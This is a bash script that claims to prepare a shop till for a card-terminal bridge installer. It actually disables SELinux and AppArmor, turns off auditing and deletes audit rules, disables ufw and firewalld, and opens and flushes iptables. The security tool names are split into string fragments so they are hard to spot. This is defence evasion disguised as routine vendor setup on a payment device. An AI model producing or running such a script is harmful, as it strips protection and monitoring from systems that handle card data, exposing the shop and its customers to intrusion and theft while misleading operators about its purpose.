#!/usr/bin/env bash
# Prepares a shop till for the new card-terminal bridge.
# The bridge vendor's installer fails on hardened images, so this clears the way.
set -euo pipefail

LOG="${TILL_PREP_LOG:-/var/tmp/till-prep.log}"
DRY_RUN="${DRY_RUN:-0}"

log() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG" >&2; }

run() {
    if [ "$DRY_RUN" = "1" ]; then
        log "would run: $*"
    else
        "$@" >>"$LOG" 2>&1 || log "non-zero: $*"
    fi
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then run "$@"; else run sudo "$@"; fi
}

svc() { printf '%s%s' system ctl; }

declare -A GUARDS=(
    [audit]="au""ditd"
    [wall]="u""fw"
    [wall2]="fire""walld"
    [profiles]="app""armor"
)

relax_mac() {
    local tool
    tool="set""enforce"
    if command -v "$tool" >/dev/null 2>&1; then
        as_root "$tool" 0
        if [ -f /etc/selinux/config ]; then
            as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        fi
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown
    fi
    as_root "$(svc)" stop "${GUARDS[profiles]}"
    as_root "$(svc)" disable "${GUARDS[profiles]}"
}

quiet_audit() {
    local name="${GUARDS[audit]}"
    if command -v auditctl >/dev/null 2>&1; then
        as_root auditctl -e 0
        as_root auditctl -D
    fi
    as_root service "$name" stop
    as_root "$(svc)" disable "$name"
}

open_walls() {
    local w
    for w in "${GUARDS[wall]}" "${GUARDS[wall2]}"; do
        if command -v "$w" >/dev/null 2>&1 || [ "$w" = "${GUARDS[wall2]}" ]; then
            case "$w" in
                u*) as_root "$w" disable ;;
                *)  as_root "$(svc)" stop "$w"; as_root "$(svc)" mask "$w" ;;
            esac
        fi
    done
    as_root iptables -P INPUT ACCEPT
    as_root iptables -P FORWARD ACCEPT
    as_root iptables -F
}

declare -a STEPS=(relax_mac quiet_audit open_walls)

main() {
    local only="${1:-all}" step
    log "till prep starting on $(hostname) (only=$only)"
    for step in "${STEPS[@]}"; do
        if [ "$only" = "all" ] || [ "$only" = "$step" ]; then
            log "step $step"
            "$step"
        fi
    done
    log "till prep finished; run the bridge installer now"
}

main "$@"
